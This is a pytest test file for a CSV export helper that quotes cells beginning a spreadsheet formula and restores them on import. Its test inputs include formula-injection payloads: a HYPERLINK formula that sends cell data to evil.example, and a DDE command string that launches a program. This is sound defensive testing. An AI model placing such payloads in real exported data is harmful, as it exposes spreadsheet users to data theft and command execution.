"""Exported CSV cells never start a spreadsheet formula; imports read them back unchanged."""

from __future__ import annotations

import pytest

from core.csvsafe import safe_cell, safe_row, unescape_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点此")', '\'=HYPERLINK("http://evil.example/?"&A1,"点此")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+86 21 6234 5678", "'+86 21 6234 5678"),
        # Left alone: ordinary text and plain numbers.
        ("静安区公共法律服务中心", "静安区公共法律服务中心"),
        ("021-62000000", "021-62000000"),
        ("a=b", "a=b"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("121.46", "121.46"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_given_a_value_when_exported_then_formula_starts_are_quoted(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize(
    "value", ["=1+1", "+x", "-x", "@x", "\tx", "'=already quoted by hand", "'plain", "-1", "text", ""]
)
def test_given_an_exported_cell_when_imported_then_the_value_comes_back(value: str) -> None:
    assert unescape_cell(safe_cell(value)) == value


def test_given_a_row_then_each_cell_is_made_safe() -> None:
    assert safe_row(["=a", 1, None, "b"]) == ["'=a", "1", "", "b"]
